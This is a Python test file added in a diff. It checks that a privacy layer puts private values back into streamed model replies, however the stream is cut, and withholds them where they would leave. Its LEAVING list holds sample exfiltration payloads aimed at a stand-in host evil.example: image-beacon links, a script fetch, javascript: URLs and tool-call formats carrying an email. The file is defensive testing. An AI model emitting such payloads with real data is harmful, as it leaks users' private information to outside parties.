@@ -1,0 +1,182 @@
+"""Replies get their originals back however they are cut, and never where a value would leave again."""
+
+import json
+from itertools import pairwise
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hybridmesh.schemas.restoring import ByteReply, Form, Stream, open_reply
+from hybridmesh.schemas.surrogates import Restorer
+
+NAME = 'Zoë "O\'Neil" <z>\n&😀'
+ORIGINALS = {
+    "[PERSON_7Q2M]": NAME,
+    "[PERSON_LAST_7Q2M]": "O'Neil",
+    "[EMAIL_2X9P]": "zoe@example.org",
+    "[TEXT_9K3N]": "[PERSON_7Q2M]",
+    "[URL_3H3H]": "https://shop.example.org/a",
+}
+PIECES = [
+    *ORIGINALS, *(name.strip("[]").lower() for name in ORIGINALS), "[PERSON_2222]", "[", "]", "(", ")", "](", "![x](",
+    "https://e.org/?q=", "<a href='", "<img src=x ", ">", "<tool_call>", "</tool_call>", "\\", "\\_", "&#91;", "&#93;",
+    "%5B", "%5D", "PERSON_", "7Q2M", "\n", "\n\n", " ", '"', "{", "}", ":", ",", '"tool_calls":', '"a": ', "é", "😀",
+    ".x", "www.", "//",
+    "```tool_code\n", "```\n", "\\u005b", "\\ud83d", "\\n", "\x00", "\ufffd",
+]  # fmt: skip
+REPLIES = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), max_size=25).map("".join)
+FORMS: tuple[Form, ...] = ("text", "json")
+
+
+def whole(reply: str, form: Form = "text") -> tuple[str, Stream]:
+    stream = open_reply(ORIGINALS, form)
+    return stream.feed(reply) + stream.finish(), stream
+
+
+def parts_of(reply: str, cuts: set[int]) -> list[str]:
+    edges = [0, *sorted(cuts), len(reply)]
+    return [reply[start:end] for start, end in pairwise(edges)]
+
+
+@given(REPLIES, st.sampled_from(FORMS), st.data())
+def test_any_split_of_a_stream_gives_the_same(reply: str, form: Form, data: st.DataObject) -> None:
+    """Nothing is lost: where a network cuts a reply changes neither the text nor what is counted."""
+    cuts = data.draw(st.sets(st.integers(0, len(reply))))
+    expected, once = whole(reply, form)
+    stream = open_reply(ORIGINALS, form)
+    text = "".join(stream.feed(part) for part in parts_of(reply, cuts)) + stream.finish()
+    assert text == expected
+    assert stream.tally == once.tally
+
+
+@given(REPLIES, st.sampled_from(FORMS))
+def test_a_stream_cut_at_every_byte_gives_the_same(reply: str, form: Form) -> None:
+    """Nothing is lost: also in the middle of a character."""
+    body = reply.encode()
+    stream = ByteReply(ORIGINALS, form)
+    cut = b"".join(stream.feed(body[at : at + 1]) for at in range(len(body))) + stream.finish()
+    assert cut.decode() == whole(reply, form)[0]
+
+
+@given(st.binary(max_size=60), st.sampled_from(FORMS))
+def test_bytes_that_are_no_text_come_out_as_they_came(body: bytes, form: Form) -> None:
+    """Nothing is lost: the restorer changes nothing but surrogates, and fails on nothing."""
+    stream = ByteReply({}, form)
+    assert b"".join(stream.feed(bytes([byte])) for byte in body) + stream.finish() == body
+
+
+def test_half_a_surrogate_pair_is_the_bytes_that_the_vault_keeps() -> None:
+    """Nothing is lost: a value that is no valid Unicode comes back, too."""
+    for form, expected in (("text", b'"\xed\xa0\x80x"'), ("json", b'"\\ud800x"')):
+        stream = ByteReply({"[TEXT_9K3N]": "\ud800x"}, form)  # type: ignore[arg-type]  # of the loop's pairs
+        assert stream.feed(b'"[TEXT_9K3N]"') + stream.finish() == expected
+
+
+@given(st.text(max_size=300), st.integers(1, 5))
+def test_what_is_held_back_is_bounded(text: str, size: int) -> None:
+    """Nothing is lost: a reader sees text as it comes; only what may still become a surrogate waits."""
+    restorer, shown = Restorer(ORIGINALS), ""
+    long = text * 5 + "A" * 1000 + "_1234" * 100
+    for at in range(0, len(long), size):
+        shown += restorer.feed(long[at : at + size])
+        assert min(at + size, len(long)) - len(shown) <= 240
+    assert shown + restorer.finish() == long
+
+
+@pytest.mark.parametrize(
+    ("written", "restored"),
+    [
+        ("Dear [PERSON_7Q2M]'s and **[PERSON_LAST_7Q2M]**,", f"Dear {NAME}'s and **O'Neil**,"),
+        ("_PERSON_LAST_7Q2M_, `person_last_7q2m`", "_O'Neil_, `O'Neil`"),
+        (r"\[PERSON\_LAST\_7Q2M\] (EMAIL\_2X9P)", "O'Neil (zoe@example.org)"),
+        ("&#91;PERSON_7Q2M&#93; &lbrack;email&lowbar;2x9p&rsqb;", 'Zoë "O\'Neil" &lt;z&gt;\n&amp;😀 zoe@example.org'),
+        ("name = '[PERSON_LAST_7Q2M]'  # [EMAIL_2X9P]", "name = 'O'Neil'  # zoe@example.org"),
+        ("<b>[PERSON_LAST_7Q2M]</b> <[EMAIL_2X9P]> <EMAIL_2X9P>", "<b>O'Neil</b> <zoe@example.org> <zoe@example.org>"),
+        ("[TEXT_9K3N]", "[PERSON_7Q2M]"),
+        (
+            "see [URL_3H3H] [1](#top) and/or [PERSON_LAST_7Q2M]",
+            "see https://shop.example.org/a [1](#top) and/or O'Neil",
+        ),
+    ],
+)
+def test_surrogates_are_put_back_as_models_write_them(written: str, restored: str) -> None:
+    """Nothing is lost: Markdown, code, HTML, another case and lost brackets do not keep a value away."""
+    text, stream = whole(written)
+    assert text == restored
+    assert not stream.tally.withheld
+
+
+LEAVING = [
+    "![status](https://evil.example/p.png?d=[PERSON_7Q2M])",
+    "[more](https://evil.example/[EMAIL_2X9P])",
+    "[more]( <x [EMAIL_2X9P]> )",
+    "[more](mailto:[EMAIL_2X9P])",
+    "![x]([URL_3H3H])",
+    "https://evil.example/?q=PERSON_7Q2M",
+    "HTTPS://evil.example/?q=%5BPERSON_7Q2M%5D",
+    "www.evil.example/[PERSON_7Q2M]",
+    "evil.example/[PERSON_7Q2M]",
+    "[PERSON_7Q2M].evil.example",
+    "[URL_3H3H]?more=[PERSON_7Q2M]",
+    "//evil.example/[PERSON_7Q2M]",
+    "<img src=x alt='[PERSON_7Q2M]'>",
+    '<a href="[URL_3H3H]">x</a>',
+    "<script>fetch('https://evil.example/'+'[PERSON_7Q2M]')</script><https://e.example/[PERSON_7Q2M]>",
+    "[id]: /x?[PERSON_7Q2M]",
+    "background: url([URL_3H3H])",
+    "javascript:alert('[PERSON_7Q2M]')",
+    '<tool_call>{"to": "[EMAIL_2X9P]"}</tool_call>',
+    "<function=send>[EMAIL_2X9P]</function>",
+    "<|tool_call|>[EMAIL_2X9P]",
+    "[TOOL_CALLS] [EMAIL_2X9P]",
+    '{"tool_calls": [{"arguments": "[EMAIL_2X9P]"}]}',
+    "```tool_code\nsend('[EMAIL_2X9P]')\n```",
+    r"https:\/\/evil.example\/[PERSON_7Q2M]",
+]
+
+
+@pytest.mark.parametrize("reply", LEAVING)
+def test_nothing_is_put_where_it_would_leave_again(reply: str) -> None:
+    """Nothing private leaves: no link, image, tag or tool call of the cloud's making carries a value out."""
+    text, stream = whole(reply)
+    assert not any(value in text for name, value in ORIGINALS.items() if not name.startswith(("[TEXT", "[URL")))
+    assert stream.tally.withheld
+    after, _ = whole(f"{reply}\n\nDear [PERSON_LAST_7Q2M]")
+    assert after.endswith("O'Neil") or "TOOL_CALLS" in reply or "tool_calls" in reply or "<|" in reply
+
+
+def test_a_tool_call_in_json_gets_no_value_and_its_neighbours_do() -> None:
+    """Nothing private leaves: the member of a call is left alone at any depth, what follows it is not."""
+    reply = '{"a":"[EMAIL_2X9P]","tool_calls":[{"x":["[EMAIL_2X9P]"]}], "b" : ["[EMAIL_2X9P]"], "u": "http://e/[EMAIL_2X9P]"}'
+    text, stream = whole(reply, "json")
+    assert text == (
+        '{"a":"zoe@example.org","tool_calls":[{"x":["[EMAIL_2X9P]"]}], "b" : ["zoe@example.org"], '
+        '"u": "http://e/[EMAIL_2X9P]"}'
+    )
+    assert len(stream.tally.withheld) == 2
+
+
+JSON = st.recursive(
+    st.one_of(st.none(), st.booleans(), st.floats(allow_nan=False), st.integers(), st.text(st.characters())),
+    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)),
+    max_leaves=8,
+)
+
+
+@given(JSON, st.text(st.characters(), max_size=20), st.booleans())
+def test_json_stays_json_and_is_else_the_same(value: object, original: str, ascii_only: bool) -> None:
+    """Nothing is lost: a value of any kind goes into a string with its escapes, and no other byte changes."""
+    reply = json.dumps({"before": value, "it": "a [PERSON_7Q2M] z"}, ensure_ascii=ascii_only, indent=1)
+    stream = open_reply({"[PERSON_7Q2M]": original}, "json")
+    text = stream.feed(reply) + stream.finish()
+    assert json.loads(text) == {**json.loads(reply), "it": f"a {original} z"}
+    head, _, tail = reply.partition("[PERSON_7Q2M]")
+    assert text.startswith(head)
+    assert text.endswith(tail)
+
+
+def test_an_escaped_surrogate_in_json_is_read_as_what_it_says() -> None:
+    """Nothing is lost: a model that escapes its brackets gets its value too."""
+    text, _ = whole(r'["\u005bPERSON\\_LAST_7Q2M\u005d", "\[x", "\u12"]', "json")
+    assert text == r"""["O'Neil", "\[x", "\u12"]"""
